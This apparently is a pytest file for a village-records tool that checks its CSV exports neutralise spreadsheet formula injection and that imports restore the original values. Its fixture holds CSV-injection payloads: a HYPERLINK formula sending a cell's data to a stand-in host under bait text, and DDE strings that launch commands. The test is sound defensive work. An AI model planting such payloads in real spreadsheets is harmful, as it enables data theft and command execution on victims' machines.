"""CSV exports are opened in Excel: a value that Excel would run as a formula is exported with a
leading ' (OWASP "CSV injection"), plain and sealed alike, and the import takes it off again."""

from __future__ import annotations

import csv
import io

import pytest

from fieldkit.services import csvio, importer, records, sealed
from fieldkit.services import workspace as wsvc
from tests.services.conftest import PASS

EXPORT_PASS = "export pass 2026"
HOSTILE = {
    "name": '=HYPERLINK("http://x.example/?d="&B2,"点我领补贴")',
    "township": "=cmd|' /C calc'!A0",
    "party_secretary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "village_head": "+1+1",
    "security_director": "-2+3+cmd|' /C calc'!A0",
}
QUOTED = {"name": "'=原样带引号", "township": "''+两个引号", "party_secretary": "'普通引号"}


@pytest.fixture()
def ws(empty_ws):
    records.save(empty_ws, "villages", {"code": "350924201201", "kind": "village", "households": 12,
                                        "hamlets": [{"hamlet_name": "=1+1"}], **HOSTILE})
    records.save(empty_ws, "villages", {"code": "350924201202", "kind": "village", **QUOTED})
    return empty_ws


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def runs_as_formula(cell: str) -> bool:
    """What Excel does with a CSV cell: = + - @ (after tabs/CRs) start a formula, unless it is a number."""
    stripped = cell.lstrip("\t\r")
    if not stripped or stripped[0] not in "=+-@":
        return False
    try:
        float(stripped)
    except ValueError:
        return True
    return False


def values(ws, code: str) -> dict:
    rec = next(r for r in ws.store.records.rows(ws.store.records.ids("villages")) if r.data["code"] == code)
    return rec.data


def test_a_plain_export_has_no_cell_excel_would_run(ws, tmp_path):
    out = tmp_path / "villages.csv"
    csvio.export_csv(ws, "villages", out, plain=True)
    rows = rows_of(out.read_bytes())
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    header = rows[0]
    first = next(r for r in rows[1:] if "350924201201" in r)
    assert first[header.index("村（社区）名称")] == "'" + HOSTILE["name"]
    assert first[header.index("所属乡镇（街道）")] == "'=cmd|' /C calc'!A0"
    assert first[header.index("户籍户数")] == "12"  # a number stays a number


def test_a_sealed_export_is_escaped_the_same_once_unsealed(ws, tmp_path):
    out = tmp_path / "villages.csv.fks"
    csvio.export_csv(ws, "villages", out, passphrase=EXPORT_PASS)
    rows = rows_of(sealed.unseal(out.read_bytes(), EXPORT_PASS))
    assert not [c for row in rows for c in row if runs_as_formula(c)]
    assert "'" + HOSTILE["village_head"] in rows[1] + rows[2]


@pytest.mark.parametrize("plain", [True, False])
def test_export_then_import_gives_back_the_same_values(ws, tmp_path, plain):
    out = tmp_path / ("villages.csv" if plain else "villages.csv.fks")
    csvio.export_csv(ws, "villages", out, plain=plain, passphrase=None if plain else EXPORT_PASS)
    # The same store: every row matches its record by uuid and nothing changes.
    again = importer.import_csv(ws, "villages", out, passphrase=EXPORT_PASS)
    assert (again.created, again.updated, again.unchanged, again.refused) == (0, 0, 2, 0)
    # Another station's empty store: the values arrive as they were typed, apostrophes and all.
    other, _ = wsvc.create(tmp_path / "other", "chief", PASS)
    try:
        report = importer.import_csv(other, "villages", out, passphrase=EXPORT_PASS)
        assert report.created == 2 and not report.problems
        first, second = values(other, "350924201201"), values(other, "350924201202")
        assert {k: first[k] for k in HOSTILE} == HOSTILE
        assert {k: second[k] for k in QUOTED} == QUOTED
        assert first["hamlets"][0]["hamlet_name"] == "=1+1" and first["households"] == 12
    finally:
        other.lock()


@pytest.mark.parametrize("value", ["=1", "+1", "-x", "@x", "\t=1", "\r=1", "'=1", "''-1", "'", "'a", "a=1",
                                   "-5", "-1.5", "-1e-05", "", "中文"])
def test_escaping_is_undone_exactly(value):
    escaped = csvio.escape_formula(value)
    assert csvio.unescape_formula(escaped) == value
    assert not runs_as_formula(escaped)
